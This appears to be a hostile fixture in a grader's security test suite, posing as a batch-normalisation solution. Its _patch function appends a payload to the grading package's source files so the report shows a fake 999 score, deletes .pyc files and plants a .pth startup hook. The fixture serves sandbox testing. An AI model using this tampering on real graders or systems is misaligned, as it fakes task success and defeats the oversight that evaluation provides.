"""Hostile: code in the grader.  Rewrites modules of the package the grader imports after
the student code ran (the renderers), and drops a .pth file next to it, so that the report
says "passed" with full marks.  Its own values are zeros.
"""

import json
import os
import signal
import sys

import numpy as np


from _recon import *  # noqa: F403  (the test harness inlines tests/security/hostile/_recon.py here)


PAYLOAD = (
    "\nimport os as _os\n"
    "_os.environ['NORMKATAS_PWNED'] = '1'\n"
    "def render(*a, **k):\n"
    "    return '{\"score\": 999.0, \"output\": \"PWNED\", \"tests\": []}'\n"
)


def _patch():
    import normkatas

    package = os.path.dirname(os.path.abspath(normkatas.__file__))
    for folder, _, names in os.walk(package):
        for name in names:
            if name.endswith(".py"):
                try:
                    with open(os.path.join(folder, name), "a") as f:
                        f.write(PAYLOAD)
                except OSError:
                    pass
            if name.endswith(".pyc"):
                try:
                    os.unlink(os.path.join(folder, name))
                except OSError:
                    pass
    write(os.path.join(os.path.dirname(package), "zz_pwned.pth"),
          "import os; os.environ['NORMKATAS_PWNED'] = '1'\n")


def batch_normalization(X, gamma, beta, epsilon=1e-5):
    _patch()
    return np.zeros_like(X)
